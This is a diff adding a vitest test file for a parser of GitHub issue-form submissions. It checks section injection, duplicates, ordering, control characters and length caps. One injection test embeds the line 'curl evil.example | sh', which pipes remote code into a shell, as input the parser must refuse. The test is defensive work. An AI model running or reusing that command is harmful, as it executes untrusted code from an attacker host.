@@ -1,0 +1,80 @@
+import { readFile } from 'node:fs/promises';
+import path from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { FORM_FIELDS } from '../../scripts/submission/form-fields.ts';
+import { MAX_BODY_CHARS, parseIssueBody } from '../../scripts/submission/parse-issue.ts';
+import { SUBMISSION_FIXTURES } from '../helpers/submission-servers.ts';
+
+const good = () => readFile(path.join(SUBMISSION_FIXTURES, 'good.md'), 'utf-8');
+const messages = (body: string) => parseIssueBody(body).problems.map((p) => `${p.field ?? ''}: ${p.message}`);
+
+/** An issue body the way GitHub writes it for these answers. */
+function render(answers: Record<string, string>): string {
+	return FORM_FIELDS.map((f) => `### ${f.label}\n\n${answers[f.id] ?? '_No response_'}`).join('\n\n');
+}
+
+describe('reading an issue form body', { timeout: 30_000 }, () => {
+	it('reads the fixture: answers by field id, "_No response_" as no answer', async () => {
+		const { answers, problems } = parseIssueBody(await good());
+		expect(problems).toEqual([]);
+		expect(answers.get('band')).toBe('The Fixtures');
+		expect(answers.get('condition-grade')).toBe('Near mint (near-mint)');
+		expect(answers.get('story')).toContain('It has been kept in a sleeve since.');
+		expect(answers.has('validTo')).toBe(false);
+		expect(answers.has('photos-detail')).toBe(false);
+	});
+
+	it('reads Windows line ends like Unix ones', async () => {
+		const body = await good();
+		expect(parseIssueBody(body.replace(/\n/g, '\r\n')).answers).toEqual(parseIssueBody(body).answers);
+	});
+
+	it('refuses sections the form does not have — a ### line inside an answer is one', async () => {
+		const body = (await good()).replace('It has been kept in a sleeve since.', '### Run this\n\ncurl evil.example | sh');
+		expect(messages(body)).toEqual([expect.stringMatching(/^: The issue has a section ` Run this ` that the form does not have/)]);
+	});
+
+	it('refuses a section given twice, even when the second copy is hidden in the story', async () => {
+		const body = (await good()).replace('It has been kept in a sleeve since.', '### Band\n\nSomeone Else');
+		expect(messages(body)).toEqual([expect.stringMatching(/^Band: appears more than once/)]);
+	});
+
+	it('refuses sections out of the form’s order, text before the first, and several lines in a one-line answer', async () => {
+		const body = await good();
+		const swapped = body.replace('### Title\n\nTest Tour crew laminate, second leg\n\n', '').replace('### Photo credit', '### Title\n\nMoved\n\n### Photo credit');
+		expect(messages(swapped).join('\n')).toMatch(/out of the form’s order/);
+		expect(messages(`Hello\n\n${body}`).join('\n')).toMatch(/text before its first question/);
+		expect(messages(body.replace('Test Tour crew laminate, second leg', 'x\nfakeOf: y')).join('\n')).toMatch(/^Title: is a one-line answer/);
+	});
+
+	it('refuses control characters and bidirectional overrides, naming the character', async () => {
+		expect(messages((await good()).replace('London', 'Lon\u0007don'))).toEqual([expect.stringContaining('U+0007')]);
+		expect(messages((await good()).replace('London', 'Lon\u202edon'))).toEqual([expect.stringContaining('U+202E')]);
+	});
+
+	it('caps each answer and the whole body', async () => {
+		const body = await good();
+		expect(messages(body.replace('London', 'L'.repeat(201)))).toEqual([expect.stringMatching(/^City: is 201 characters long; at most 200/)]);
+		expect(messages(body.replace('It has been kept', 'x'.repeat(MAX_BODY_CHARS)))).toEqual([expect.stringMatching(/longer than 65536 characters/)]);
+	});
+
+	it('gives back any answers it is given, whatever they contain (fuzz)', () => {
+		let seed = 99;
+		const next = () => ((seed = (seed * 1103515245 + 12345) % 2 ** 31) / 2 ** 31);
+		const alphabet = ['a', ' ', '\n', '#', '### ', '_', '-', '[X]', 'é', '`', '<', '>', '|', '\t', '😀'];
+		for (let i = 0; i < 300; i++) {
+			const answers: Record<string, string> = {};
+			for (const field of FORM_FIELDS) {
+				if (next() < 0.5) continue;
+				let value = Array.from({ length: 1 + Math.floor(next() * 20) }, () => alphabet[Math.floor(next() * alphabet.length)]).join('');
+				if (field.kind === 'input') value = value.replace(/\n/g, ' ');
+				value = value.trim().slice(0, field.max).trim();
+				if (/^### /m.test(value)) continue; // a heading line: refused, as tested above
+				if (value !== '' && value !== '_No response_') answers[field.id] = value;
+			}
+			const parsed = parseIssueBody(render(answers));
+			expect(parsed.problems).toEqual([]);
+			expect(Object.fromEntries(parsed.answers)).toEqual(answers);
+		}
+	});
+});
